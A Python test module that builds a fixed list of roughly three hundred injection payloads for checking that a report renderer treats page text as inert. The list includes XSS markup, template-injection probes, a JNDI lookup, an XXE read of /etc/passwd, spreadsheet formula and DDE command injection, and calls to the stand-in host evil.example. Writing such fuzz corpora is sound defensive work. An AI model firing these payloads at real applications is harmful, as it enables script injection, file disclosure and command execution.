"""Three hundred strings by which a page could try to be more than text in a report: one line each, drawn by family."""

# ruff: noqa: E501 - a payload stands on one line, as it would on the page

import itertools
from collections.abc import Iterator

RUN = "window.hostile=1"
HOST = "https://evil.example/x"
CONTROLS = [
    *map(chr, range(32)),
    *map(chr, range(0x7F, 0xA0)),
    "\u2028",
    "\u2029",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u00ad",
]
DIRECTIONS = [
    "\u202e",
    "\u202d",
    "\u202a",
    "\u2066",
    "\u2067",
    "\u2068",
    "\u200e",
    "\u200f",
    "\u061c",
    "\u200b",
    "\u2060",
]

MARKUP = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={HOST}></SCRIPT>", f"<img src=x onerror={RUN}>", f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>", f"<svg/onload={RUN}//", f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src='javascript:{RUN}'>", f"<object data='javascript:{RUN}'>",
    f"<embed src='{HOST}'>", f"<link rel=stylesheet href={HOST}>", f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<base href='{HOST}'>", f"<form action='javascript:{RUN}'><button>x", f"<button formaction='javascript:{RUN}'>x",
    f"<details open ontoggle={RUN}>x", f"<marquee onstart={RUN}>x", f"<video><source onerror={RUN}></video>",
    f"<input autofocus onfocus={RUN}>", f"<select autofocus onfocus={RUN}>", f"<a href='javascript:{RUN}'>x</a>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>", f"<template><script>{RUN}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>", f"<title><a href='</title><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->", f"<![CDATA[<script>{RUN}</script>]]>", f"]]><script>{RUN}</script>",
    f"<?xml version='1.0'?><x xmlns:s='http://www.w3.org/1999/xhtml'><s:script>{RUN}</s:script></x>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>", f"<portal src={HOST}>", f"<dialog open>{RUN}",
    f"<style>@import '{HOST}';</style>", f"<p style='background:url({HOST})'>x", f"<img src={HOST} srcset={HOST}>",
    f"<audio src={HOST} autoplay>", f"<picture><source srcset={HOST}><img></picture>", f"<table background={HOST}>",
    "<plaintext>", "<textarea>", "<!--", "<frameset>", "</body></html>", "</main></div></section></details>",
]  # fmt: skip
BREAKERS = [
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover="{RUN}', f"' onfocus='{RUN}' autofocus x='",
    f"` onload=`{RUN}", f"x onerror={RUN} y=", f"</script><script>{RUN}</script>", f"</style><script>{RUN}</script>",
    f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>", f"</noscript><script>{RUN}</script>",
    f"</select><script>{RUN}</script>", f"</bdi></td></tr></table><script>{RUN}</script>", f"';{RUN};//", f'";{RUN};//',
    f'\\";{RUN};//', f"\\';{RUN};//", f"*/{RUN};/*", f"-->{RUN}", f"${{{RUN}}}", f"`;{RUN};`", f"\u2028{RUN}//", f"\u2029{RUN}//",
    f"}}}};{RUN};{{{{", "};alert(1);{", f"x;}}*{{background:url({HOST})}}", "expression(alert(1))", "\\3c script\\3e ",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "&amp;lt;b&amp;gt;", "&NewLine;&Tab;", "&colon;",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "{{ config.items() }}", "{% for x in range(9) %}x{% endfor %}", "{# x #}", "{{''.__class__.__mro__}}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "<% import os %>", "@{7*7}", "*{7*7}", "~{7*7}", "[[${7*7}]]", "{{constructor.constructor('x')()}}",
    "{message}", "{0}", "{}", "{0.__class__}", "{n:>99999999}", "%s", "%(name)s", "%n%n%n%n", "%99999999s", "$HOME", "`id`",
    "$(id)", "{{{x}}}", "{%raw%}", "{{^x}}{{/x}}", "{{#x}}{{/x}}", "{{>x}}", "#set($x=7*7)$x", "<#assign x=7>", "${jndi:ldap://evil.example/x}",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠x", " =1+1", "'=1+1", '"=1+1', ";=1+1", ",=1+1",
    "=cmd|' /C calc'!A0", "=DDE('cmd';'/C calc';'x')", '=HYPERLINK("https://evil.example";"x")', '=WEBSERVICE("https://evil.example")',
    '=IMPORTXML("https://evil.example","//a")', '=IMAGE("https://evil.example/x.png")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "=rundll32|'URL.dll,OpenURL calc.exe'!A", "%0A=1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "=\u200b1", "|cmd", "1\t=2", "a\r\n=b", '";=1;"',
]  # fmt: skip
ESCAPES = [
    "\x1b[2J", "\x1b]0;owned\x07", "\x1b[31mred", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1bP$q\x1b\\", "\x1bc", "\x9b2J", "\x9d0;x\x9c",
    "\x1b]52;c;eA==\x07", "\x1b[6n", "\x1b[?1049h", "\x08\x08\x08", "\r overwritten", "\x07", "\x0e", "::set-output name=x::y", "::error::x",
    "##vso[task.setvariable variable=x]y", "##teamcity[x]", "[31m", "\x1b[1A\x1b[2K", "\u009b31m", "%1b[2J", "\\x1b[2J", "\\033[2J",
]  # fmt: skip
LINKS = [
    f"[x]({HOST})", f"![x]({HOST}.png)", f"[x](javascript:{RUN})", f"<{HOST}>", "<me@evil.example>", "@octocat", "#1", "org/repo#3", "!4", "GH-12", "$x$", "```\nx",
    "| x | y |", "- [ ] x", "> x", "# x", "[^1]", "[x]: https://evil.example", "~~x~~", "**x**", "~~~", "---", "<br>", "&#64;octocat", "www.evil.example",
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f" javascript:{RUN}", f"java\tscript:{RUN}", f"\x01javascript:{RUN}", f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}", "file:///etc/passwd", "//evil.example/x", "\\\\evil.example\\x", "blob:https://evil.example/x", "view-source:x", "https://evil.example@x/", "mailto:x?body=y",
    "http://127.0.0.1/x", "https://xn--80ak6aa92e.example/", "https://evil.example/\u202egnp.exe", "ms-excel:ofe|u|https://evil.example", "search-ms:query=x", "steam://run/1",
]  # fmt: skip
LONG = [
    "x" * 40_000,
    "x " * 20_000,
    "<" * 5_000,
    "&" * 5_000,
    "(" * 5_000,
    "é\u0301" * 3_000,
    "👩‍👩‍👧" * 2_000,
    "﷽" * 2_000,
    "\u0301" * 2_000,
    "\t" * 3_000,
    "\n" * 3_000,
]
JSONS = ['","x":"', "\\u0000", "\\ud800", '{"$ref":"file:///etc/passwd"}', "__proto__", "constructor", "null", "NaN", "1e999", "true", "0x10", "!!python/object:x", "&anchor", "*alias", "? key", "- item", ": ", "%YAML 2", "---\n...", "<<: *x", "@id", "@context", "<not an iri>", "urn:x y"]  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once, in an order that does not change."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from itertools.chain(MARKUP, BREAKERS, TEMPLATES, FORMULAS, ESCAPES, LINKS, LONG, JSONS)
    yield from (f"a{control}b<script>{RUN}</script>" for control in CONTROLS)
    yield from (f"a{mark}cod.exe {mark}{mark}" for mark in DIRECTIONS)
    yield from (f"{one}\x00{two}" for one, two in zip(MARKUP[:10], BREAKERS[:10], strict=True))
    yield from ("a\ud800b", "\udc00", "\ud83d", "x\udfff<b>")
